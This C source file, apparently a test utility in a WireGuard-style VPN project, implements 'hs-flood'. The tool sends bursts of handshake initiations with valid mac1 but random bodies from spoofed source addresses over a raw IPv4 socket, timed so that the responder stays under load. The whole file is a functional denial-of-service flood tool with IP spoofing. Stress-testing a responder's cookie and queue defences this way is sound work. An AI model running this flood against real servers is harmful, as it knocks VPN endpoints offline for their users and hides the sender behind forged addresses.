// SPDX-License-Identifier: GPL-2.0
/*
 * A handshake flood from spoofed sources: initiations whose mac1 is valid
 * for the responder (so each one costs it work) but whose sender index,
 * ephemeral key and body are random, each from a random address of
 * SRC_NET and a random port, written with a raw IPv4 socket.
 *
 *   hs-flood PUBKEY DST_IP DST_PORT SRC_NET/PLEN COUNT SECONDS [BURST]
 *
 * PUBKEY is the responder's public key as wg prints it. COUNT initiations
 * go out in bursts of BURST (default 512), spread evenly over SECONDS;
 * the first burst is twice as big, so that the responder stays under
 * load for a while after it even if it keeps up with the others. Prints
 * a line when the first burst is out, then what it sent in all;
 * exits non-zero if it could not send them all.
 */
/* LDLIBS: -lcrypto */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "wire.h"

enum {
	IP_HLEN = 20,
	UDP_HLEN = 8,
	PKT_LEN = IP_HLEN + UDP_HLEN + INITIATION_LEN,
	MAX_BURST = 4096,	/* the size of the responder's queue */
	MAX_VLEN = 1024		/* UIO_MAXIOV: sendmmsg takes no more */
};

static uint8_t pkts[MAX_BURST][PKT_LEN];
static struct iovec iov[MAX_BURST];
static struct mmsghdr msgs[MAX_BURST];

static void usage(void)
{
	fprintf(stderr,
		"usage: hs-flood PUBKEY DST_IP DST_PORT SRC_NET/PLEN COUNT SECONDS [BURST]\n");
	exit(2);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void sleep_until(double t)
{
	struct timespec ts = {
		.tv_sec = (time_t)t,
		.tv_nsec = (long)((t - (time_t)t) * 1e9),
	};

	while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL) ==
	       EINTR)
		;
}

/*
 * IPv4 and UDP headers around a fresh initiation. The kernel fills in the
 * IP total length, id and checksum; a UDP checksum of zero means none.
 */
static void build(uint8_t *pkt, uint64_t *rng, uint32_t net, uint32_t hostmask,
		  struct in_addr dst, uint16_t dport, struct wire_mac *m,
		  const uint8_t mac1_key[KEY_LEN])
{
	uint8_t *udp = pkt + IP_HLEN, *msg = udp + UDP_HLEN;
	uint32_t src;
	uint16_t sport;

	/* Neither the network's own address nor its broadcast. */
	do {
		src = net | (wire_rand(rng) & hostmask);
	} while (hostmask > 1 && ((src & hostmask) == 0 ||
				  (src & hostmask) == hostmask));
	sport = 1024 + wire_rand(rng) % (65536 - 1024);

	memset(pkt, 0, IP_HLEN + UDP_HLEN);
	pkt[0] = 0x45;
	pkt[8] = 64;
	pkt[9] = IPPROTO_UDP;
	src = htonl(src);
	memcpy(pkt + 12, &src, 4);
	memcpy(pkt + 16, &dst, 4);
	udp[0] = sport >> 8;
	udp[1] = sport;
	udp[2] = dport >> 8;
	udp[3] = dport;
	udp[4] = (UDP_HLEN + INITIATION_LEN) >> 8;
	udp[5] = (UDP_HLEN + INITIATION_LEN) & 0xff;

	/* Random sender, ephemeral, sealed static and timestamp. */
	wire_rand_bytes(rng, msg, INITIATION_LEN - MACS_LEN);
	put_le32(msg, MSG_INITIATION);
	memset(msg + wire_mac1_offset(INITIATION_LEN), 0, MACS_LEN);
	wire_set_mac1(m, msg, INITIATION_LEN, mac1_key);
}

int main(int argc, char **argv)
{
	uint8_t pub[KEY_LEN], mac1_key[KEY_LEN];
	unsigned long count, burst = 512, sent = 0, dropped = 0;
	struct sockaddr_in to = { .sin_family = AF_INET };
	uint32_t net, hostmask;
	struct wire_mac m;
	double seconds, start, gap;
	uint64_t rng;
	unsigned long dport, i, n;
	int plen, fd, ret;
	char *slash;

	if (argc != 7 && argc != 8)
		usage();
	if (wire_decode_key(pub, argv[1]) || wire_mac1_key(mac1_key, pub)) {
		fprintf(stderr, "bad public key\n");
		return 2;
	}
	if (!inet_pton(AF_INET, argv[2], &to.sin_addr))
		usage();
	dport = strtoul(argv[3], NULL, 10);
	slash = strchr(argv[4], '/');
	if (!slash || !dport || dport > 65535)
		usage();
	*slash = '\0';
	plen = atoi(slash + 1);
	if (!inet_pton(AF_INET, argv[4], &net) || plen < 8 || plen > 32)
		usage();
	hostmask = plen == 32 ? 0 : 0xffffffffU >> plen;
	net = ntohl(net) & ~hostmask;
	count = strtoul(argv[5], NULL, 10);
	seconds = atof(argv[6]);
	if (argc == 8)
		burst = strtoul(argv[7], NULL, 10);
	if (!count || seconds < 0 || !burst || 2 * burst > MAX_BURST)
		usage();
	if (wire_mac_open(&m)) {
		fprintf(stderr, "no BLAKE2SMAC in libcrypto\n");
		return 2;
	}
	if (getrandom(&rng, sizeof(rng), 0) != sizeof(rng) || !rng)
		rng = 0x9e3779b97f4a7c15ULL ^ (uint64_t)time(NULL);

	/* IPPROTO_RAW: we write the IP header ourselves (IP_HDRINCL). */
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("socket");
		return 2;
	}
	for (i = 0; i < MAX_BURST; i++) {
		iov[i].iov_base = pkts[i];
		iov[i].iov_len = PKT_LEN;
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
		msgs[i].msg_hdr.msg_name = &to;
		msgs[i].msg_hdr.msg_namelen = sizeof(to);
	}

	gap = seconds * burst / count;
	start = now();
	for (n = 0; sent + dropped < count; n++) {
		unsigned long size = n ? burst : 2 * burst;
		unsigned long want = count - sent - dropped, done = 0;
		unsigned long lost = 0;

		if (want > size)
			want = size;
		for (i = 0; i < want; i++)
			build(pkts[i], &rng, net, hostmask, to.sin_addr, dport,
			      &m, mac1_key);
		sleep_until(start + (n ? n + 1 : 0) * gap);
		while (done < want) {
			ret = sendmmsg(fd, msgs + done,
				       want - done < MAX_VLEN ? want - done :
				       MAX_VLEN, 0);
			if (ret > 0) {
				done += ret;
				continue;
			}
			if (errno != ENOBUFS && errno != EAGAIN &&
			    errno != EINTR) {
				perror("sendmmsg");
				return 1;
			}
			/* A full queue somewhere on the way: that one is lost. */
			if (errno == ENOBUFS) {
				done++;
				lost++;
			}
		}
		sent += done - lost;
		dropped += lost;
		/* The responder is under load from here: say so, at once. */
		if (!n) {
			printf("first burst sent\n");
			fflush(stdout);
		}
	}
	printf("sent %lu initiations (%lu refused locally) in %.2f s\n", sent,
	       dropped, now() - start);
	close(fd);
	return dropped ? 1 : 0;
}
